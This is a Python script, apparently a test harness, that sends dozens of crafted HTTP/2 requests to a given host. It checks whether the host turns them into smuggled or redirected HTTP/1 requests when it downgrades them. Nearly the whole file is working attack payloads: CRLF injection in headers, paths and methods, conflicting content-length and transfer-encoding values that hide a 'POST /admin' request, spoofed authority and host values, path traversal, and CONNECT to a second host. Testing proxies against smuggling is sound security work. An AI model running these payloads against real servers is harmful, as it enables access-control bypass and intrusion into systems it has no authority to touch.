"""HTTP/2 requests that become several, or other ones, when they are passed on as HTTP/1.

usage: streams.py < {"allowed": host, "target": host}
Prints {what: status or why not}; the judge is what arrives at the servers. "fine: ..." must get a 200.
"""
import json
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events

given = json.load(sys.stdin)
a, t = given["allowed"], given["target"]
results = {}


def send(what, headers, body=b"", trailers=None):
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    try:
        with context.wrap_socket(socket.create_connection((a, 443), 4), server_hostname=a) as s:
            s.settimeout(2)
            c = h2.connection.H2Connection(h2.config.H2Configuration(
                header_encoding=None, validate_outbound_headers=False, normalize_outbound_headers=False,
                validate_inbound_headers=False))
            c.initiate_connection()
            c.send_headers(1, headers, end_stream=not body and not trailers)
            if body:
                c.send_data(1, body, end_stream=not trailers)
            if trailers:
                c.send_headers(1, trailers, end_stream=True)
            s.sendall(c.data_to_send())
            while data := s.recv(65536):
                for e in c.receive_data(data):
                    if isinstance(e, h2.events.ResponseReceived):
                        results[what] = dict(e.headers).get(b":status", b"?").decode()
                        return
                    if isinstance(e, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                        results[what] = f"no: reset {getattr(e, 'error_code', '')}"
                        return
            results[what] = "no: closed"
    except Exception as e:
        results[what] = f"no: {type(e).__name__} {e}"[:80]


def request(method=b"GET", path=b"/v1/ok", authority=a.encode(), scheme=b"https", more=()):
    fields = [(b":method", method), (b":scheme", scheme), (b":path", path)]
    return [*fields, *([(b":authority", authority)] if authority is not None else []), *more]


HIDDEN = b"POST /admin HTTP/1.1\r\nHost: " + a.encode() + b"\r\nX-Attack: hidden\r\nContent-Length: 0\r\n\r\n"
send("fine: plain", request())
send("fine: with a header", request(more=[(b"x-y", b"z")]))
for what, headers in {
    "authority of another": request(authority=t.encode()), "authority and host": request(more=[(b"host", t.encode())]),
    "host only, of another": request(authority=None, more=[(b"host", t.encode())]), "neither": request(authority=None),
    "two authorities": request() + [(b":authority", t.encode())], "two hosts": request(more=[(b"host", a.encode()), (b"host", t.encode())]),
    "authority with user": request(authority=b"x@" + t.encode()), "authority with a newline": request(authority=a.encode() + b"\r\nX-Attack: 1"),
    "authority with a path": request(authority=t.encode() + b"/" + a.encode()), "authority with a port": request(authority=a.encode() + b":80"),
    "path of a method": request(path=b"/v1/ok HTTP/1.1\r\nX-Attack: 1\r\n\r\n" + HIDDEN), "path with a blank": request(path=b"/v1/ok /admin"),
    "path absolute": request(path=b"https://" + t.encode() + b"/v1/ok"), "path without a slash": request(path=b"v1/ok"),
    "path empty": request(path=b""), "path of another": request(path=b"/admin"), "two paths": request() + [(b":path", b"/admin")],
    "path up": request(path=b"/v1/../admin"), "path up, encoded": request(path=b"/v1/%2e%2e/admin"),
    "method of another": request(method=b"POST"), "method with a newline": request(method=b"GET /admin HTTP/1.1\r\nX-Attack: 1\r\n\r\nGET"),
    "method with a blank": request(method=b"GET /admin HTTP/1.1 "), "two methods": request() + [(b":method", b"DELETE")],
    "scheme http": request(scheme=b"http"), "scheme with a newline": request(scheme=b"https://x\r\nX-Attack: 1"),
    "value with a newline": request(more=[(b"x-y", b"z\r\nX-Attack: 1")]), "value with a lone newline": request(more=[(b"x-y", b"z\nX-Attack: 1")]),
    "value with a request": request(more=[(b"x-y", b"z\r\n\r\n" + HIDDEN)]), "value with NUL": request(more=[(b"x-y", b"z\0")]),
    "name with a newline": request(more=[(b"x-y: z\r\nx-attack", b"1")]), "name with a colon": request(more=[(b"x-attack: 1\r\nx", b"1")]),
    "name with a blank": request(more=[(b"x-attack ", b"1")]), "name in capitals": request(more=[(b"X-Attack", b"1")]),
    "name empty": request(more=[(b"", b"x")]), "unknown pseudo": request(more=[(b":attack", b"1")]),
    "pseudo behind a field": [(b"x", b"y"), *request()], "transfer-encoding": request(more=[(b"transfer-encoding", b"chunked")]),
    "connection": request(more=[(b"connection", b"keep-alive, x-y"), (b"x-y", b"1")]), "upgrade": request(more=[(b"upgrade", b"websocket"), (b"connection", b"upgrade")]),
    "te": request(more=[(b"te", b"gzip")]), "connect": [(b":method", b"CONNECT"), (b":authority", t.encode() + b":443")],
    "extended connect": [(b":method", b"CONNECT"), (b":protocol", b"websocket"), (b":scheme", b"https"), (b":path", b"/v1/ok"), (b":authority", t.encode())],
}.items():
    send(what, headers)
for what, length in (("length too small", b"0"), ("length too large", b"9999"), ("length twice", None), ("length negative", b"-1"), ("length of a list", b"0, 5")):
    more = [(b"content-length", length)] if length is not None else [(b"content-length", b"0"), (b"content-length", str(len(HIDDEN)).encode())]
    send("smuggled by " + what, request(more=more), HIDDEN)
send("smuggled by transfer-encoding", request(more=[(b"transfer-encoding", b"chunked")]), b"0\r\n\r\n" + HIDDEN)
send("trailer with a pseudo", request(), b"x", [(b":path", b"/admin")])
send("trailer with a newline", request(), b"x", [(b"x-t", b"1\r\n\r\n" + HIDDEN)])
send("trailer of a length", request(), b"x", [(b"content-length", b"0"), (b"transfer-encoding", b"chunked")])
send("fine: after all that", request())
print(json.dumps(results))
